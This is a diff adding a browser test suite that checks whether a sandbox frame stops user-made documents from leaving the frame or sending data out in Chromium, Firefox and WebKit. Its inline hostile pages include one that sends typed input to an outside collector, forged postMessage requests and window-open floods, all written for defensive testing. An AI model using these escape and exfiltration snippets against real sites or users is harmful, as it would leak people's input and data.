@@ -1,0 +1,407 @@
+// What holds a document in its frame, in the engines that readers have: the same cases in Chromium, Firefox and WebKit.
+import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
+
+import { openChromium } from "./harness/engines/chromium.ts";
+import type { Engine, PressOptions } from "./harness/engines/engine.ts";
+import { openFirefox } from "./harness/engines/firefox.ts";
+import { openWebKit } from "./harness/engines/webkit.ts";
+import { attemptNames, hostileDocument, leavingDocuments, startCollector } from "./harness/escape-attempts.ts";
+import { startInstance, type Instance } from "./harness/instance.ts";
+import { createArtifact, createPerson, createProject, type Person } from "./harness/people.ts";
+import { hung } from "./harness/process.ts";
+
+let instance: Instance;
+/** Named in the documents of the cases, so it is there before them. */
+const elsewhere = startCollector();
+let person: Person;
+let projectSlug: string;
+
+beforeAll(async () => {
+  instance = await startInstance();
+  person = await createPerson(instance);
+  projectSlug = (await createProject(person)).slug;
+}, hung);
+afterAll(async () => {
+  await instance.stop();
+  await elsewhere.stop();
+}, hung);
+
+const page = (body: string) => `<!doctype html><title>Hostile</title><body style="height:600px">${body}`;
+const escapeHtml = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
+const cardShown = `!document.querySelector("[data-part=request]").hidden`;
+const cardText = `document.querySelector("[data-part=request]").innerText`;
+const linkReady = `document.querySelector("[data-part=request-link]").hasAttribute("href")`;
+/** Requests of pages that were opened; a browser asks for their icon as well. */
+const heard = () => elsewhere.heard.filter((line) => !line.endsWith("/favicon.ico"));
+const at = (path: string) => `${elsewhere.origin}/${path}`;
+const got = (path: string) => `GET ${at(path)}`;
+
+/** Longer than any of these ways takes to send something, where nothing tells that it did not. */
+const LISTENING_MS = 700;
+
+for (const [name, openEngine] of Object.entries({ Chromium: openChromium, Firefox: openFirefox, WebKit: openWebKit })) {
+  describe(name, () => {
+    let engine: Engine;
+    beforeAll(async () => {
+      engine = await openEngine();
+      console.log(`${engine.name} ${engine.version}`);
+    }, hung);
+    afterAll(() => engine?.close(), hung);
+    afterEach(async () => {
+      await engine.closeOthers();
+      elsewhere.heard.length = 0;
+    }, hung);
+
+    async function open(type: "md" | "html" | "jsx", content: string): Promise<string> {
+      const { url } = await createArtifact(person, projectSlug, { type, content });
+      await engine.open(url);
+      await engine.until("page", "document.readyState === 'complete'");
+      await engine.until("frame", "document.readyState === 'complete'");
+      return url;
+    }
+
+    async function untilHeard(expected: readonly string[]): Promise<void> {
+      for (const ended = Date.now() + hung; heard().length < expected.length && Date.now() < ended;)
+        await Bun.sleep(50);
+      await Bun.sleep(LISTENING_MS);
+      expect(heard()).toEqual([...expected]);
+    }
+
+    /** Presses, and expects that the page shows the whole URL, that nothing leaves, and then one request on the reader's press. */
+    async function asksFirst(selector: string, path: string, options?: PressOptions): Promise<void> {
+      await engine.press("frame", selector, options);
+      await engine.until("page", cardShown);
+      expect(await engine.evaluate("page", cardText)).toContain(at(path));
+      await engine.until("page", linkReady);
+      expect(heard()).toEqual([]);
+      expect(await engine.tabs()).toBe(1);
+      await engine.press("page", "[data-part=request-link]");
+      await untilHeard([got(path)]);
+      expect(await engine.tabs()).toBe(2);
+    }
+
+    test(
+      "a press anywhere that would send what the reader typed: the page shows the URL, and only the reader's press opens it",
+      async () => {
+        await open(
+          "html",
+          page(
+            `<input id="typed"><script>document.body.onclick = () => {
+              if (typed.value) window.open("${at("click-open?typed=")}" + encodeURIComponent(typed.value)); };</script>`,
+          ),
+        );
+        await engine.press("frame", "#typed");
+        await engine.type("secret");
+        await engine.until("frame", "typed.value === 'secret'");
+        await asksFirst("body", "click-open?typed=secret");
+      },
+      hung,
+    );
+
+    const links: Readonly<Record<string, [body: string, path: string, options?: PressOptions]>> = {
+      "a link": [`<a id="go" href="${at("link")}">Go</a>`, "link"],
+      "a link with a target": [`<a id="go" target="_blank" href="${at("blank")}">Go</a>`, "blank"],
+      "a link pressed with the control key": [
+        `<a id="go" href="${at("control")}">Go</a>`,
+        "control",
+        { withControl: true },
+      ],
+      "a link pressed with the middle button": [
+        `<a id="go" href="${at("middle")}">Go</a>`,
+        "middle",
+        { button: "middle" },
+      ],
+      "a link in an svg": [
+        `<svg width="80" height="40"><a id="go" href="${at("svg")}"><rect width="80" height="40"/></a></svg>`,
+        "svg",
+      ],
+      "a link whose event is stopped": [
+        `<p onclick="event.stopPropagation()"><a id="go" href="${at("stopped")}">Go</a></p>`,
+        "stopped",
+      ],
+      "a link that a script makes": [
+        `<button id="go" onclick="Object.assign(document.createElement('a'), { href: '${at("made")}' }).click()">Go</button>`,
+        "made",
+      ],
+      "a search form": [
+        `<form target="_blank" action="${at("search")}"><input name="q" value="a b"><button id="go">Go</button></form>`,
+        "search?q=a+b",
+      ],
+    };
+    for (const [what, [body, path, options]] of Object.entries(links)) {
+      test(
+        `${what}: opens after the reader agrees`,
+        async () => {
+          await open("html", page(body));
+          await asksFirst("#go", path, options);
+        },
+        hung,
+      );
+    }
+
+    test(
+      "a link of a jsx document opens after the reader agrees",
+      async () => {
+        await open("jsx", `export default function App() { return <a id="go" href="${at("jsx")}">Go</a>; }`);
+        await engine.until("frame", "document.querySelector('#go') !== null");
+        await asksFirst("#go", "jsx");
+      },
+      hung,
+    );
+
+    test(
+      "a link that is reached by keyboard opens after the reader agrees",
+      async () => {
+        await open("html", page(`<input id="typed"><a id="go" href="${at("key")}">Go</a>`));
+        await engine.press("frame", "#typed");
+        await engine.evaluate("frame", "document.querySelector('#go').focus()");
+        await engine.pressKey("Enter");
+        await engine.until("page", cardShown);
+        expect(await engine.evaluate("page", cardText)).toContain(at("key"));
+        expect(heard()).toEqual([]);
+      },
+      hung,
+    );
+
+    test(
+      "a document that prevents the default of a press keeps its link",
+      async () => {
+        await open(
+          "html",
+          page(
+            `<a id="go" href="${at("own")}" onclick="event.stopPropagation(); event.preventDefault(); document.title = 'own'">Go</a>`,
+          ),
+        );
+        await engine.press("frame", "#go");
+        await engine.until("frame", "document.title === 'own'");
+        await Bun.sleep(LISTENING_MS);
+        expect(await engine.evaluate("page", cardShown)).toBe(false);
+      },
+      hung,
+    );
+
+    test(
+      "links to places in the document stay in the frame",
+      async () => {
+        await open("html", page(`<a id="go" href="#end">Go</a><p id="end" style="margin-top:3000px">End</p>`));
+        await engine.press("frame", "#go");
+        await engine.until("frame", "scrollY > 0");
+        expect(await engine.evaluate("page", cardShown)).toBe(false);
+      },
+      hung,
+    );
+
+    test(
+      "a link to a document of this instance opens in the same tab",
+      async () => {
+        const { url } = await createArtifact(person, projectSlug, { content: "# The other\n" });
+        await open("html", page(`<a id="go" href="${new URL(url).pathname.split("/").at(-1)}">Go</a>`));
+        await engine.press("frame", "#go");
+        await engine.until("page", `location.href === ${JSON.stringify(url)}`);
+        expect(await engine.tabs()).toBe(1);
+      },
+      hung,
+    );
+
+    test(
+      "a link of a markdown document opens at once",
+      async () => {
+        await open("md", `[Go](${at("markdown")})\n`);
+        await engine.press("frame", "a[href*=markdown]");
+        await untilHeard([got("markdown")]);
+        expect(await engine.tabs()).toBe(2);
+      },
+      hung,
+    );
+
+    // A frame that the document writes has no guard, and says that the press has come.
+    const unguarded = (body: string) => {
+      const inner = `<body style="margin:0" onmousedown="parent.postMessage('pressed', '*')">${body}`;
+      return page(
+        `<iframe id="go" style="border:0;width:200px;height:100px" srcdoc="${escapeHtml(inner)}"></iframe>
+          <script>addEventListener("message", ({ data }) => { document.title = data; });</script>`,
+      );
+    };
+    const bareLink = `<a style="display:block;height:100px" target="_blank" href="${at("bare")}">Go</a>`;
+    const bare: Readonly<Record<string, [body: string, options?: PressOptions]>> = {
+      "window.open": [`<p style="margin:0;height:100px" onclick="window.open('${at("bare")}')">Go</p>`],
+      "window.open without an opener": [
+        `<p style="margin:0;height:100px" onclick="window.open('${at("bare")}', '_blank', 'noopener')">Go</p>`,
+      ],
+      "a link": [bareLink],
+      "a link and the middle button": [bareLink, { button: "middle" }],
+      "a link and the control key": [bareLink, { withControl: true }],
+      "a link to the whole tab": [bareLink.replace("_blank", "_top")],
+    };
+    for (const [what, [body, options]] of Object.entries(bare)) {
+      test(
+        `${what} in a frame without the guard: what opens a tab`,
+        async () => {
+          const url = await open("html", unguarded(body));
+          await engine.press("frame", "#go", options);
+          await engine.until("frame", "document.title === 'pressed'");
+          await Bun.sleep(LISTENING_MS);
+          // Firefox opens a tab in spite of the sandbox: SECURITY.md names it, and this notices the day it no longer does.
+          // Chromium may open one for the control key, which asks for nothing; when is not certain, so it is not counted.
+          expect(heard()).toEqual(name === "Firefox" && options !== undefined ? [got("bare")] : []);
+          if (options === undefined) expect(await engine.tabs()).toBe(1);
+          expect(await engine.evaluate("page", "location.href")).toBe(url);
+        },
+        hung,
+      );
+    }
+
+    for (const type of ["html", "jsx"] as const) {
+      test(
+        `${type}: every attempt to read or to reach something is refused, and nothing leaves`,
+        async () => {
+          await engine.open(`${instance.origin}/login`);
+          await engine.evaluate("page", "void (document.cookie = 'session=kept', localStorage.setItem('kept', 'yes'))");
+          const url = await open(type, hostileDocument(type, elsewhere.origin, instance.origin));
+          await engine.until("frame", "(document.querySelector('#outcome')?.textContent ?? '').endsWith('}')");
+          const outcome = (await engine.evaluate("frame", "document.querySelector('#outcome').textContent")) as string;
+          expect(JSON.parse(outcome)).toEqual(Object.fromEntries(attemptNames(type).map((one) => [one, "refused"])));
+          await Bun.sleep(LISTENING_MS);
+          expect(heard()).toEqual([]);
+          expect(await engine.evaluate("page", "location.href")).toBe(url);
+          expect(
+            await engine.evaluate("page", "[document.cookie.includes('session=kept'), localStorage.kept]"),
+          ).toEqual([true, "yes"]);
+        },
+        hung,
+      );
+    }
+
+    for (const way of Object.keys(leavingDocuments(""))) {
+      test(
+        `a document cannot send its own frame elsewhere by ${way}`,
+        async () => {
+          const { url } = await createArtifact(person, projectSlug, {
+            type: "html",
+            content: leavingDocuments(elsewhere.origin)[way] ?? "",
+          });
+          await engine.open(url);
+          await Bun.sleep(LISTENING_MS);
+          expect(heard()).toEqual([]);
+          expect(await engine.evaluate("page", "location.href")).toBe(url);
+          expect(await engine.tabs()).toBe(1);
+        },
+        hung,
+      );
+    }
+
+    test(
+      "messages without a press of the reader, and from other windows, are ignored",
+      async () => {
+        const posted = `for (const message of [{ type: 'plinth:open', url: '${at("forged")}' }, { type: 'plinth:copy', text: 'x' },
+        { type: 'plinth:save', name: 'x', content: new Blob(['x']) }, { type: 'plinth:open', url: '/a/b/c' }])`;
+        const inner = `<script>const post = (then) => { ${posted} top.postMessage(message, '*'); parent.postMessage(then, '*'); };
+        post('posted'); onclick = () => post('again');</script>`;
+        const address = await open(
+          "html",
+          page(`<script>${posted} parent.postMessage(message, '*');
+          addEventListener('message', ({ data }) => { document.title = data; });</script>
+          <iframe id="go" srcdoc="${escapeHtml(inner)}"></iframe>`),
+        );
+        await engine.until("frame", "document.title === 'posted'");
+        await Bun.sleep(LISTENING_MS);
+        expect(await engine.evaluate("page", cardShown)).toBe(false);
+        await engine.press("frame", "#go");
+        await engine.until("frame", "document.title === 'again'");
+        await Bun.sleep(LISTENING_MS);
+        expect(await engine.evaluate("page", cardShown)).toBe(false);
+        expect(await engine.evaluate("page", "location.href")).toBe(address);
+        expect(heard()).toEqual([]);
+      },
+      hung,
+    );
+
+    test(
+      "a document asks one thing at a time, and not again by the press that refused it",
+      async () => {
+        await open(
+          "html",
+          page(`<button id="go">Go</button><script>
+          go.onclick = () => { for (const n of [1, 2, 3]) open("${at("flood")}" + n);
+            setInterval(() => { open("${at("again")}"); document.title = "asked"; }, 100); };</script>`),
+        );
+        await engine.press("frame", "#go");
+        await engine.until("page", linkReady);
+        expect(await engine.evaluate("page", cardText)).toContain(at("flood1"));
+        await engine.press("page", "[data-part=request-cancel]");
+        await Bun.sleep(LISTENING_MS);
+        expect(await engine.evaluate("page", cardShown)).toBe(false);
+        expect(heard()).toEqual([]);
+      },
+      hung,
+    );
+
+    test(
+      "the card cannot be answered at the moment it appears, and takes no focus",
+      async () => {
+        await open("html", page(`<a id="go" href="${at("arming")}">Go</a>`));
+        await engine.evaluate(
+          "page",
+          `void (new MutationObserver(() => { window.first ??= ${linkReady}; }).observe(document.querySelector("[data-part=request]"), { attributes: true }))`,
+        );
+        await engine.press("frame", "#go");
+        await engine.until("page", linkReady);
+        expect(await engine.evaluate("page", "window.first")).toBe(false);
+        expect(await engine.evaluate("page", "document.activeElement.localName")).toBe("iframe");
+      },
+      hung,
+    );
+
+    for (const [what, offer] of Object.entries({
+      "a link in the document": `document.body.append(a); a.click(); a.remove(); URL.revokeObjectURL(a.href)`,
+      "a link outside the document": `a.click()`,
+      "an event that a script makes": `a.dispatchEvent(new MouseEvent("click"))`,
+    })) {
+      test(
+        `a file offered by ${what} is saved after the reader agrees`,
+        async () => {
+          await open(
+            "html",
+            page(`<button id="go">Go</button><script>go.onclick = () => { const a = document.createElement("a");
+            a.download = "report.csv"; a.href = URL.createObjectURL(new Blob(["a,b,c"], { type: "text/csv" })); ${offer}; };</script>`),
+          );
+          await engine.evaluate(
+            "page",
+            `void (HTMLAnchorElement.prototype.click = function () {
+            window.saved = [this.download, this.href.startsWith("blob:" + location.origin)]; })`,
+          );
+          await engine.press("frame", "#go");
+          await engine.until("page", cardShown);
+          expect(await engine.evaluate("page", cardText)).toContain("Save report.csv, 5 B?");
+          expect(await engine.evaluate("page", "window.saved === undefined")).toBe(true);
+          await engine.until("page", `!document.querySelector("[data-part=request-accept]").disabled`);
+          await engine.press("page", "[data-part=request-accept]");
+          await engine.until("page", "window.saved !== undefined");
+          expect(await engine.evaluate("page", "window.saved")).toEqual(["report.csv", true]);
+        },
+        hung,
+      );
+    }
+
+    test(
+      "a text that a document copies reaches the clipboard, and the page says so",
+      async () => {
+        await open(
+          "html",
+          page(
+            `<button id="go" onclick="navigator.clipboard.writeText('copied').then(() => { document.title = 'done' })">Go</button>`,
+          ),
+        );
+        await engine.evaluate(
+          "page",
+          `void (navigator.clipboard.writeText = async (text) => { window.copied = text; })`,
+        );
+        await engine.press("frame", "#go");
+        await engine.until("frame", "document.title === 'done'");
+        expect(await engine.evaluate("page", cardText)).toContain("Copied 6 characters");
+        expect(await engine.evaluate("page", "window.copied")).toBe("copied");
+      },
+      hung,
+    );
+  });
+}
